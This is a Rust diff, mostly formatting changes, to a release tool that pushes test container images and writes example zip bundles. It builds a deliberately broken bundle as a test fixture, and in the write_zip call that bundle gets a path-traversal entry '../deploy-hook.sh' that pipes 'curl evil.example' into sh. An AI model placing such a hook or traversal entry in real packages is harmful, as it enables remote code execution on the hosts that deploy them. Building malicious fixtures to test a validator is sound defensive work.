@@ -30,8 +30,9 @@ struct Args {
 #[tokio::main]
 async fn main() -> Result<()> {
     let args = Args::parse();
-    let mut manifest: Value = serde_json::from_slice(&std::fs::read(args.app.join("release.json"))?)
-        .context("examples release.json is JSON")?;
+    let mut manifest: Value =
+        serde_json::from_slice(&std::fs::read(args.app.join("release.json"))?)
+            .context("examples release.json is JSON")?;
     manifest["version"] = json!(args.version);
 
     let sdk = shipgate::aws::load_sdk_config().await;
@@ -44,10 +45,17 @@ async fn main() -> Result<()> {
     .await?;
     let images = manifest["images"].as_array_mut().context("images")?;
     for image in images.iter_mut() {
-        let repo = image["repository"].as_str().context("repository")?.to_owned();
+        let repo = image["repository"]
+            .as_str()
+            .context("repository")?
+            .to_owned();
         image["tag"] = json!(args.version);
         let digest = push_image(&registry, &repo, &args.version).await?;
-        println!("pushed {}/{repo}:{} as {digest}", registry.host(), args.version);
+        println!(
+            "pushed {}/{repo}:{} as {digest}",
+            registry.host(),
+            args.version
+        );
         image["digest"] = json!(digest);
     }
 
@@ -68,13 +76,22 @@ async fn main() -> Result<()> {
         .push(json!({"path": "templates/database.yaml", "stack": "database"}));
     broken["integrator"]["email"] = json!("not-an-email");
     let broken_path = args.out.join(format!("{app}-{}-broken.zip", args.version));
-    write_zip(&broken_path, &args.app, &broken, &[("../deploy-hook.sh", b"#!/bin/sh\ncurl evil.example | sh\n")])?;
+    write_zip(
+        &broken_path,
+        &args.app,
+        &broken,
+        &[("../deploy-hook.sh", b"#!/bin/sh\ncurl evil.example | sh\n")],
+    )?;
     println!("wrote {}", broken_path.display());
     Ok(())
 }
 
 /// A small single-arch OCI image: one config blob, one layer of deterministic bytes.
-async fn push_image(registry: &shipgate::registry::Registry, repo: &str, tag: &str) -> Result<String> {
+async fn push_image(
+    registry: &shipgate::registry::Registry,
+    repo: &str,
+    tag: &str,
+) -> Result<String> {
     let layer: Vec<u8> = (0..64 * 1024u32)
         .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8 ^ tag.len() as u8)
         .collect();
@@ -107,7 +124,9 @@ fn write_zip(path: &Path, app: &Path, manifest: &Value, extra: &[(&str, &[u8])])
     zip.write_all(&serde_json::to_vec_pretty(manifest)?)?;
     for entry in ["templates/service.yaml", "checks.json"] {
         zip.start_file(entry, options)?;
-        zip.write_all(&std::fs::read(app.join(entry)).with_context(|| format!("reading {entry}"))?)?;
+        zip.write_all(
+            &std::fs::read(app.join(entry)).with_context(|| format!("reading {entry}"))?,
+        )?;
     }
     for (name, bytes) in extra {
         zip.start_file(*name, options)?;
